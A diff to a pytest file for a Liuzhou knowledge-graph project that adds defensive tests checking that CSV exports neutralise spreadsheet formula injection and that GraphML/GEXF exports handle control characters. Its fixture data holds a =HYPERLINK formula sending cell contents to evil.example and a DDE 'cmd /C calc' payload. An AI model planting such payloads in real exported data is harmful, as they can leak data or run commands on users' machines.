@@ -19,7 +19,9 @@ LZ = "https://w3id.org/liuzhou-kg/resource/"
 
 @pytest.fixture(scope="module")
 def store(built_dist):
-    return ox.Store.read_only(str(built_dist / "store"))
+    from liuzhou_kg.store import open_store
+
+    return open_store(built_dist / "store")  # the store folder's current generation
 
 
 @pytest.fixture(scope="module")
@@ -113,3 +115,60 @@ def test_network_reads_every_graph_of_a_store_with_no_union_copy():
     assert set(edges) == {(a.value, p.value, b.value), (b.value, p.value, c.value)}
     assert sorted(edges[(a.value, p.value, b.value)]["graphs"].split()) == ["lzg:p01-s01", "lzg:p01-s02"]
     assert network.number_of_edges() == 2
+
+
+HOSTILE_LABELS = """@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
+@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
+@prefix lz: <https://w3id.org/liuzhou-kg/resource/> .
+lz:liugong skos:prefLabel "=HYPERLINK(\\"http://evil.example/?\\"&A2,\\"柳工\\")"@zh , "Evil Corp"@en ;
+    <http://evil.example/rel> <http://evil.example/calc> .
+<http://evil.example/calc> rdfs:label "+cmd|' /C calc'!A0" , "@SUM(1)"@en , "bell\\u0001\\u0008here"@zh .
+<http://evil.example/tab> rdfs:label "\\tcell"@en , "-2+3"@zh .
+lz:liugong <http://evil.example/rel> <http://evil.example/tab> .
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile_store(built_dist, tmp_path_factory):
+    import shutil
+
+    from liuzhou_kg.imports import import_rdf
+    from liuzhou_kg.store import open_store
+
+    work = tmp_path_factory.mktemp("hostile")
+    shutil.copytree(built_dist / "store", work / "store")
+    data = work / "labels.ttl"
+    data.write_text(HOSTILE_LABELS, encoding="utf-8")
+    import_rdf(work / "store", data, license_iri="https://creativecommons.org/publicdomain/zero/1.0/",
+               progress=False)
+    return open_store(work / "store")
+
+
+def test_an_import_does_not_rename_the_builds_entities(hostile_store):
+    node = build_network(hostile_store).graph.nodes[LZ + "liugong"]
+    assert (node["label"], node["label_zh"], node["label_en"]) == ("柳工", "柳工", "LiuGong")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(hostile_store, tmp_path):
+    files = {p.name: p for p in export(hostile_store, tmp_path, ("csv",))}
+    with files["liuzhou-nodes.csv"].open(encoding="utf-8", newline="") as handle:
+        rows = {row["id"]: row for row in csv.DictReader(handle)}
+    calc, tab = rows["http://evil.example/calc"], rows["http://evil.example/tab"]
+    assert calc["label_en"] == "'@SUM(1)"
+    assert tab["label_en"] == "'\tcell" and tab["label_zh"] == "'-2+3"
+    for row in rows.values():
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert rows[LZ + "liuzhou"]["label"] == "柳州市"  # ordinary cells untouched
+
+
+def test_graphml_and_gexf_are_well_formed_for_any_label(hostile_store, tmp_path):
+    import xml.etree.ElementTree as ET
+
+    files = {p.name: p for p in export(hostile_store, tmp_path, ("graphml", "gexf"))}
+    for name in ("liuzhou.graphml", "liuzhou.gexf"):
+        ET.parse(files[name])  # raises on a character XML forbids
+        text = files[name].read_text(encoding="utf-8")
+        assert "bell\ufffd\ufffdhere" in text and "\x01" not in text and "&#1;" not in text
+    assert nx.read_graphml(files["liuzhou.graphml"]).nodes["http://evil.example/calc"]["label_zh"] \
+        == "bell\ufffd\ufffdhere"
